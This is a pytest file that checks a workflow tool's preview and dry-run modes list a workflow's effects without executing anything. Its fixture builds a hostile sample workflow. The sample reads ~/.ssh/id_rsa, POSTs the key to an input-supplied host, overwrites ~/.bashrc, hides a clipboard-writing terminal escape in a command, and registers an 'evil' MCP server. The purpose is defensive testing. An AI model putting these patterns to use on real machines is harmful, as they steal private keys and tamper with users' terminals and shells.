"""A workflow file shows what it would do before anybody runs it, and looking calls nothing."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.cli.conftest import Machine

_CLIPBOARD = "\x1b]52;c;ZXZpbA==\x07"


@pytest.fixture
def directory(tmp_path: Path) -> Path:
    place = tmp_path / "work"
    place.mkdir()
    nodes = [
        {"id": "run", "type": "shell", "params": {"command": f"touch {place}/ran {_CLIPBOARD}"}},
        {"id": "key", "type": "read-file", "params": {"file_path": "~/.ssh/id_rsa"}},
        {"id": "up", "type": "write-file", "params": {"file_path": "~/.bashrc", "content": "x"}},
        {
            "id": "send",
            "type": "http",
            "params": {"url": "https://${host}/", "method": "POST", "body": "${key.content}"},
        },
        {"id": "ask", "type": "mcp-evil-tool", "params": {}},
    ]
    server = {"command": "touch", "args": [str(place / "started")]}
    inputs = {"host": {"type": "string"}}
    (place / "w.json").write_text(json.dumps({"inputs": inputs, "nodes": nodes}))
    (place / ".mcp.json").write_text(json.dumps({"mcpServers": {"evil": server}}))
    return place


@pytest.mark.parametrize(
    "command", ["check w.json", "show w.json", "run w.json host=example.org --dry-run"]
)
def test_looking_at_a_workflow_lists_its_effects_and_calls_nothing(
    command: str, directory: Path, machine: Machine
) -> None:
    machine.trusting = False
    said = machine.runtrue(*command.split(), cwd=directory)
    found = machine.runtrue(*command.split(), "--json", cwd=directory)
    assert (said.code, found.code) == (0, 0), said.said + found.said
    for text in (said.out, " ".join(one["text"] for one in found.json["effects"])):
        assert f"run the command `touch {directory}/ran" in text
        assert f"read the file {machine.home}/.ssh/id_rsa" in text
        assert f"write the file {machine.home}/.bashrc" in text
        assert "send POST https://" in text
        assert "call the MCP tool mcp-evil-tool" in text
    assert "\x1b" not in said.said + found.said
    assert not (directory / "ran").exists()
    assert not (directory / "started").exists()
    assert not (machine.home / ".bashrc").exists()
    assert not machine.journal.exists()


def test_a_dry_run_fills_in_the_inputs(directory: Path, machine: Machine) -> None:
    done = machine.runtrue("run", "w.json", "host=example.org", "--dry-run", cwd=directory)
    assert "send POST https://example.org/" in done.out
    assert "w.json: nothing was run" in done.out
    missing = machine.runtrue("run", "w.json", "--dry-run", cwd=directory)
    assert (missing.code, "input 'host' is missing" in missing.err) == (2, True)


def test_a_workflow_with_problems_has_no_effects_to_show(tmp_path: Path, machine: Machine) -> None:
    (tmp_path / "w.json").write_text('{"nodes": [{"id": "a", "type": "nothing"}]}')
    done = machine.runtrue("check", "w.json", "--json", cwd=tmp_path)
    assert (done.code, done.json["effects"]) == (1, [])
